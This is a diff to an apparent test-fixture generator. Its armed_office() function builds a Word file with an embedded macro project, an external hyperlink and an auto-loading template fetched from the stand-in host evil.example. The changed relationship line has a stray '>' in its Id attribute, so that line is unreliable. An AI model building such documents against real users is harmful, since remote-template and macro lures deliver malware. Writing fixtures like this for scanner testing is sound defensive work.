@@ -140,14 +140,15 @@ def office(kind: str = "docx", *, entries: int = 0, megabytes: int = 0) -> bytes
 
 def armed_office() -> bytes:
     """A document with a program, a template that loads by itself, a link, and a photo."""
-    relation = '<Relationship Id="{}" Type="http://schemas.example/{}" Target="{}" TargetMode="External"/>'
+    relation = '<r:Relationship Id=">{}" Type="http://schemas.example/{}" Target="{}" TargetMode="External"/>'
+    namespace = 'xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"'
     relations = relation.format("r1", "attachedTemplate", "https://evil.example/t.dotm")
     relations += relation.format("r2", "hyperlink", "https://otinim.example/")
     buffer = io.BytesIO(office())
     with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("word/vbaProject.bin", EXE)
         archive.writestr("word/document.xml", "<w:document/>")
-        archive.writestr("word/_rels/settings.xml.rels", f"<Relationships>{relations}</Relationships>")
+        archive.writestr("word/_rels/settings.xml.rels", f"<r:Relationships {namespace}>{relations}</r:Relationships>")
         archive.writestr("word/media/image1.jpeg", photo())
     return buffer.getvalue()
 
